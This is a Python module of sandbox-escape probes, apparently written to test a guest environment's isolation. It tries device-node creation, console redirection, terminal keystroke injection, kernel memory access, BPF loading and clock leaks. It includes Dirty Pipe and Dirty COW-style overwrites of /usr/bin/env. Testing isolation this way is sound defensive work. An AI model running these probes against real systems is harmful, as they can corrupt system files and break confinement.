# SPDX-License-Identifier: Apache-2.0
"""Attempts through devices, files of the kernel, shared files and clocks (attempts.py)."""

import contextlib
import ctypes
import fcntl
import mmap
import os
import pty
import struct
import time
from pathlib import Path

from attempts import NEWNS, NEWUSER, REMOUNT, attempt, call, folder, mount, unshare


@attempt
def device_nodes() -> str | None:
    for kind, major, minor in ((0o20000, 5, 1), (0o20000, 4, 64), (0o20000, 1, 1), (0o20000, 1, 11), (0o60000, 98, 0)):
        try:
            os.mknod(f"{folder('nodes')}/{major}-{minor}", kind | 0o600, os.makedev(major, minor))
        except OSError:
            continue
        return f"device {major}:{minor} was made"
    return None


@attempt
def device_nodes_in_a_user_namespace() -> str | None:
    unshare(NEWUSER | NEWNS)
    return device_nodes()


@attempt
def device_nodes_by_an_overlay() -> str | None:
    """Users may create device nodes in some file systems. Copies of them, and whiteouts, must not be devices."""
    unshare(NEWNS)
    target = folder("over")
    for name in ("low", "up", "work", "all"):
        os.mkdir(f"{target}/{name}")
    mount("none", f"{target}/low", "tmpfs")
    mount(
        "none", f"{target}/all", "overlay", options=f"lowerdir={target}/low,upperdir={target}/up,workdir={target}/work"
    )
    os.mknod(f"{target}/all/console", 0o20600, os.makedev(5, 1))
    return "the console was made"


@attempt
def the_console_is_redirected() -> str | None:
    """TIOCCONS sends the agent's console output to a terminal of the program."""
    _, terminal = pty.openpty()
    fcntl.ioctl(terminal, 0x541D, 0)
    return "the console leads to a program"


@attempt
def the_agent_line() -> str | None:
    for path in ("/dev/ttyS0", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/kmsg"):
        try:
            os.open(path, os.O_WRONLY | os.O_NOCTTY)
        except OSError:
            continue
        return f"{path} can be opened"
    return None


@attempt
def the_controlling_terminal() -> str | None:
    terminal = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(terminal, 0x5412, b"x")
    return "typed on a terminal"


@attempt
def memory_of_the_machine() -> str | None:
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/net/../mem", "/sys/kernel/debug"):
        if os.path.exists(path) and (os.path.isfile(path) or os.listdir(path)):
            return f"{path} exists"
    call(172, 3)
    return "iopl"


@attempt
def switches_of_user_mode_linux() -> str | None:
    for path in ("/proc/sysemu", "/proc/exitcode", "/proc/mm", "/proc/mconsole"):
        if os.path.exists(path):
            return f"{path} exists"
    return None


@attempt
def files_of_hourglass() -> str | None:
    target = folder("proc")
    mount("none", target, "proc")
    for name in ("radio", "load", "probe"):
        try:
            os.open(f"{target}/hourglass/{name}", os.O_WRONLY)
        except OSError:
            continue
        return f"{name} can be written"
    return None


@attempt
def attributes_of_nics() -> str | None:
    mount("none", "/sys", flags=REMOUNT)
    for device in os.listdir("/sys/class/net"):
        attributes = f"/sys/class/net/{device}/wire"
        for name in os.listdir(attributes) if os.path.isdir(attributes) else ():
            try:
                Path(f"{attributes}/{name}").write_text("1")
            except OSError:
                continue
            return f"{device}: {name} was written"
    return None


@attempt
def a_root_that_nodes_share() -> str | None:
    """As in CVE-2022-0847: splice a page of a read-only file into a pipe, and write over it."""
    path = "/usr/bin/env"
    before, (out, into) = Path(path).read_bytes(), os.pipe()
    size = fcntl.fcntl(into, 1032)
    os.write(into, b"\0" * size)
    os.read(out, size)
    source = os.open(path, os.O_RDONLY)
    os.splice(source, into, 1, offset_src=0)
    os.write(into, b"XXXX")
    return "changed" if Path(path).read_bytes() != before else None


@attempt
def memory_of_a_read_only_file() -> str | None:
    """As in CVE-2016-5195: write to a private mapping through /proc/self/mem."""
    path = "/usr/bin/env"
    before, source = Path(path).read_bytes(), os.open(path, os.O_RDONLY)
    pages = mmap.mmap(source, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    view = ctypes.c_char_p(bytes(pages[:4]))
    del view
    memory = os.open("/proc/self/mem", os.O_RDWR)
    for line in Path("/proc/self/maps").read_text().splitlines():
        if line.endswith(path):
            os.pwrite(memory, b"XXXX", int(line.split("-")[0], 16))
    return "changed" if Path(path).read_bytes() != before else None


@attempt
def clocks() -> str | None:
    """Compare each clock and date that a program can read with the guest's."""
    for number in range(12):
        try:
            seconds = time.clock_gettime(number)
        except OSError:
            continue
        if seconds > 1_735_000_000:
            return f"clock {number} says {seconds}"
    boot = next(line for line in Path("/proc/stat").read_text().splitlines() if line.startswith("btime"))
    fresh = folder("time")
    dates = {"boot": int(boot.split()[1]), "file": os.stat(fresh).st_ctime, "time": time.time()}
    late = {name: date for name, date in dates.items() if date > 1_735_000_000}
    clocks = [name for name in os.listdir("/sys/class") if name in {"rtc", "ptp"} and os.listdir(f"/sys/class/{name}")]
    return f"{late} {clocks}" if late or clocks else None


@attempt
def calls_by_the_vsyscall_page() -> str | None:
    buffer = ctypes.create_string_buffer(16)
    for offset in (0x000, 0x400):
        entry = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)(0xFFFFFFFFFF600000 + offset)
        result = entry(ctypes.addressof(buffer) if offset == 0 else None, None)
        date = struct.unpack("q", buffer.raw[:8])[0] if offset == 0 else result
        if date > 1_735_000_000:
            return f"the date {date}"
    return None


@attempt
def parameters_of_modules() -> str | None:
    """They hold for all nodes."""
    target = folder("sys")
    mount("none", target, "sysfs")
    for path in Path(target).glob("module/*/parameters/*"):
        try:
            path.write_text(path.read_text())
        except OSError:
            continue
        return f"wrote {path.relative_to(target)}"
    return None


@attempt
def programs_in_bpf_of_users() -> str | None:
    """Root of a node may load them."""
    if os.geteuid() == 0:
        return None
    for flags in (0, NEWUSER):
        if flags:
            unshare(flags)
        steps = ctypes.create_string_buffer(struct.pack("<QQ", 0xB7, 0x95))  # r0 = 0; exit
        terms = ctypes.create_string_buffer(b"GPL")
        program = struct.pack("<IIQQ", 1, 2, ctypes.addressof(steps), ctypes.addressof(terms))
        with contextlib.suppress(PermissionError):
            return f"loaded as {call(321, 5, ctypes.create_string_buffer(program.ljust(48, bytes(1))), 48)}"
    return None
